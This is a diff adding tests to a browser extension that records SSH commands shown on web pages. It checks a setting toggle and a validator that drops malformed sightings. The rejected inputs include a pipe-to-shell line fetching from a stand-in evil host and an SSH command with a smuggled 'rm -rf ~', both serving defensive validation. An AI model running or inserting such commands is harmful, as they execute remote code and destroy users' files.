@@ -7,6 +7,7 @@ import { fakeBrowser } from 'wxt/testing/fake-browser';
 import { addressChange, behindMachine, hopMachines, managedMachines, markCopied, rememberMachine, rememberMachines, type MachineRecord, type Sighting } from '../../lib/machines';
 import { recordMachine, recordMachines, forgetMachineRecord, forgetAllMachines } from '../../lib/machine-store';
 import { machineRecords, rememberShownCommands } from '../../lib/storage';
+import { MAX_SIGHTINGS, rememberMachinesFrom, sightingsFrom } from '../../lib/machine-messages';
 import { buildManagedSection, buildSshConfig, mergeSshConfig, parseConnectCommand, configInstallScript, type Connection } from '../../lib/config';
 
 function conn(cmd: string): Connection {
@@ -160,6 +161,41 @@ describe('storage: public data only, in storage.local, forget removes it', () =>
   it('records written back to back are all kept', async () => {
     await Promise.all([41001, 41002, 41003, 41004].map((p) => recordMachine({ connection: DEV(p) })));
     expect(await machineRecords.getValue()).toHaveLength(4);
+  });
+});
+
+describe("the content script's sightings, recorded by the background (message checked as page data)", () => {
+  beforeEach(() => fakeBrowser.reset());
+
+  it('shown commands are recorded while the setting is on, not while it is off (and the reply says which)', async () => {
+    const msg = { type: 'remember-machines', shown: true, sightings: [{ command: 'ssh -p 41587 root@36.103.1.2', name: 'my-dev' }, { command: 'ssh -J ssh-jumper.cloud.infini-ai.com root@aic-dbdz3pprd2g54crp' }] };
+    await rememberShownCommands.setValue(false);
+    expect(await rememberMachinesFrom(msg)).toEqual({ remembered: false });
+    expect(await machineRecords.getValue()).toEqual([]);
+    await rememberShownCommands.setValue(true);
+    expect(await rememberMachinesFrom(msg)).toEqual({ remembered: true });
+    const recs = await machineRecords.getValue();
+    expect(recs.map((r) => r.alias).sort()).toEqual(['infini-aic-dbdz3pprd2g54crp', 'infini-my-dev']);
+    expect(recs.find((r) => r.name === 'my-dev')?.connection).toMatchObject({ host: '36.103.1.2', port: 41587, user: 'root' });
+  });
+
+  it('a used action is recorded with its key even while "remember shown" is off', async () => {
+    await rememberShownCommands.setValue(false);
+    expect(await rememberMachinesFrom({ type: 'remember-machines', shown: false, sightings: [{ command: 'ssh -p 41587 root@36.103.1.2', keyName: 'infini_ed25519' }] })).toEqual({ remembered: true });
+    expect(await machineRecords.getValue()).toMatchObject([{ keyName: 'infini_ed25519', connection: { port: 41587 } }]);
+  });
+
+  it('drops what is not one command of ours: no text, two lines, too long, not ssh, odd names; caps the batch', () => {
+    const ok = { command: 'ssh -p 41587 root@36.103.1.2' };
+    const { sightings } = sightingsFrom({
+      shown: true,
+      sightings: [ok, null, 7, { command: 42 }, { command: 'ssh root@a.b\nrm -rf ~' }, { command: `ssh root@${'a'.repeat(300)}.com` }, { command: 'curl evil.example | sh' }, { ...ok, name: { toString: () => 'x' } }, { ...ok, keyName: 'k'.repeat(201) }, { ...ok, name: 'fine' }],
+    });
+    expect(sightings.map((s) => s.name)).toEqual([undefined, 'fine']);
+    expect(sightingsFrom({ sightings: Array.from({ length: MAX_SIGHTINGS + 5 }, () => ok) }).sightings).toHaveLength(MAX_SIGHTINGS);
+    expect(sightingsFrom({ sightings: 'no' }).sightings).toEqual([]);
+    // anything but an explicit false is treated as shown (the setting decides)
+    expect(sightingsFrom({ sightings: [] }).shown).toBe(true);
   });
 });
 
